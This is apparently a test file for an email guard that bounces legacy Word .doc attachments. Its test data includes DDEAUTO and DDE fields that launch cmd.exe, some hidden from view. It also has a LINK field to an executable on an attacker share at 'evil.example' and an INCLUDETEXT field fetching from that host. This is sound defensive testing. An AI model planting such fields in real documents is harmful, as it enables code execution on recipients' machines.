import { compoundFile, wordBinary, zipFile } from '@wmflow/core/testing';
import { describe, expect, it } from 'vitest';
import { attachedFile, attackerKit } from './attacker-kit.js';
import { useLocalStack } from './stack.js';

// A50-5: a Word 97-2003 .doc keeps its fields in its text (0x13 code 0x14 result 0x15): the 2017 DDEAUTO campaigns
// were mostly .doc. The guard read a compound file's packages and object links, never the WordDocument text.
const stack = useLocalStack();
const kit = attackerKit(stack);
const DOC = 'application/msword';
const DDE = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"';
const field = (code: string, result = 'x') => `\x13 ${code} \x14${result}\x15`;
const verdict = async (name: string, file: Buffer, type = DOC) =>
  (await kit.inbound(attachedFile(name, file, type)[0])).verdict;

describe('A50-5: fields of a binary .doc that run a program or open a file', () => {
  it('bounces a .doc whose text holds a DDEAUTO field (UTF-16 and 8-bit pieces)', async () => {
    const text = `Invoice\r${field(DDE)}\r`;
    expect(await verdict('Invoice.doc', wordBinary([{ text }]))).toBe('BOUNCE');
    expect(await verdict('Invoice.doc', wordBinary([{ text }], { compressed: true, table: '1Table' }))).toBe(
      'BOUNCE',
    );
  });
  it('bounces a DDE field hidden from view', async () => {
    const doc = wordBinary([
      { text: 'Invoice\r' },
      { text: field('DDE c:\\\\x\\\\cmd.exe "/c calc"'), vanish: 1 },
    ]);
    expect(await verdict('Invoice.doc', doc)).toBe('BOUNCE');
  });
  it('bounces a .doc linking a package to an executable on a share, and including text from a server', async () => {
    const link = field('LINK Package "\\\\\\\\evil.example\\\\s\\\\invoice.exe" "" \\a');
    expect(await verdict('Invoice.doc', wordBinary([{ text: `Invoice\r${link}\r` }]))).toBe('BOUNCE');
    const include = field('INCLUDETEXT "http://evil.example/doc"');
    expect(await verdict('Invoice.doc', wordBinary([{ text: `Invoice\r${include}\r` }]))).toBe('BOUNCE');
  });
  it('bounces a LINK whose source a nested field builds', async () => {
    const text = `\x13 LINK Package "${field('QUOTE 92 92 101 118', 'report.docx')}" "" \\a \x14x\x15\r`;
    expect(await verdict('Invoice.doc', wordBinary([{ text }]))).toBe('BOUNCE');
  });
  it('bounces a .doc whose piece table cannot be followed and whose stream holds a DDEAUTO field', async () => {
    const fib = Buffer.alloc(0x600);
    fib.writeUInt16LE(0xa5ec, 0);
    fib.writeUInt16LE(0x00c1, 2);
    const doc = compoundFile([
      ['WordDocument', Buffer.concat([fib, Buffer.from(`Invoice\r${field(DDE)}\r`, 'utf16le')])],
      ['1Table', Buffer.alloc(512)],
    ]);
    expect(await verdict('Invoice.doc', doc)).toBe('BOUNCE');
  });
  it('bounces a .doc inside a zip', async () => {
    const doc = wordBinary([{ text: `Invoice\r${field(DDE)}\r` }]);
    expect(
      await verdict('Invoice.zip', zipFile([{ name: 'Invoice.doc', data: doc }]), 'application/zip'),
    ).toBe('BOUNCE');
  });
  it('(control) sends a .doc with PAGE, TOC and HYPERLINK fields and a picture from the web', async () => {
    const text = `${field('TOC \\o "1-3" \\h \\z \\u', 'Contents')}\rInvoice ${field('PAGE \\* MERGEFORMAT', '1')}\r${field('HYPERLINK "https://vendor.example/setup.exe"', 'site')}${field('INCLUDEPICTURE "http://cdn.example/logo.png" \\* MERGEFORMATINET', '')}\r`;
    expect(await verdict('Invoice.doc', wordBinary([{ text }]))).toBe('DEFAULT');
    expect(await verdict('Invoice.doc', wordBinary([{ text }], { compressed: true }))).toBe('DEFAULT');
  });
});
